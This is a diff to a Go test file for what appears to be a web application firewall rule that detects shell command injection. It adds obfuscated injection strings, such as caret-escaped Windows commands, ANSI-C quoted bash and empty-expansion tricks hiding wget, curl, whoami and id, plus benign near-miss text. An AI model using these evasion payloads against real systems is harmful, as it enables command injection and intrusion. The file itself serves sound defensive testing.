@@ -32,7 +32,9 @@ func TestShortPayloads(t *testing.T) {
 		// cmd.exe's carets, net1, net.exe, call, %COMSPEC%, bash's ANSI-C
 		// quoting (a sixth fresh-eyes attack's B9)
 		"x & n^et user", "x & v^er", "x & c^u^r^l http://x", "x & net1 user", `x & "net" user`, "x & net.exe user", "x & call net user",
-		"x & %COMSPEC% /c ver", `x;$'\x69\x64'`, `x;i$'\x64'`} {
+		"x & %COMSPEC% /c ver", `x;$'\x69\x64'`, `x;i$'\x64'`,
+		// a sixth fresh-eyes attack's B14
+		"x;w$1get http://e/x", "x;wh$9oami", "x;c$''url http://e/x", "x;$'i'd", "x;w`true`get http://e/x"} {
 		jv := `"` + jsonEscape(v) + `"`
 		misses = append(misses,
 			probe{name: v + " in the query", method: "GET", path: "/login?user=" + q(v)},
@@ -236,7 +238,10 @@ var shellCommandAttacks = []string{"| id", "; id", ";id", "&& id", "`id`", "x|id
 	"x & n^et user", "x & ne^t us^er", "x & v^er", "x & c^u^r^l http://x", "x & w^h^o^a^m^i", "x & ^whoami", "x & net1 user", `x & "net" user`,
 	"x & net.exe user", "x & NET.EXE user", "x & n^et1 user", "x & call net user", "x & CALL ver", "x & %COMSPEC% /c ver", "x & %comspec%",
 	"x & cmd /c ver", "x & cmd.exe /C whoami", `x;$'\x69\x64'`, `x;i$'\x64'`, `x;$'\151\144'`, `x;$'\u0069d'`, "x;i$'d'", `x;i$"d"`, `x|$'\x63at' /etc/passwd`,
-	`$($'\x69\x64')`}
+	`$($'\x69\x64')`,
+	// more expansions to nothing (a sixth fresh-eyes attack's B14)
+	"x;w$1get http://e/x", "x;wh$9oami", "x;c$2url http://e/x", `x;w$""get http://e/x`, "x;c$''url http://e/x", "x;i$'d'", "x;$'i'd",
+	"x;w`true`get http://e/x", "x;w``get http://e/x", "x;wh$(true)oami", "x;i$(:)d", "x;i`:`d"}
 
 // shellCommandBenign is ordinary text near 210151's attacks: the fifth
 // fresh-eyes attack's F12 (Markdown tables, inline code, line lists,
@@ -256,6 +261,8 @@ var shellCommandBenign = []string{
 	// near B9: carets, call, $'' in prose and code
 	"2^3 & 4^2", "x^2 | y^2", "a; call me later", "Me & you; call us", "x & cmd line tools", "Use `$'\\t'` for a tab", "it costs $'5' & up",
 	"net1 & net2", "Q&A; call center", "& ^_^", "Tom & Jerry; ^^ nice",
+	// near B14
+	"costs $1; $2 more", "A; $1 idea", "x; `true` or `false`", "; $'x' is a string", "Set `id` and `true` flags",
 }
 
 // TestShellCommandRule measures rule 210151's expression (as Coraza
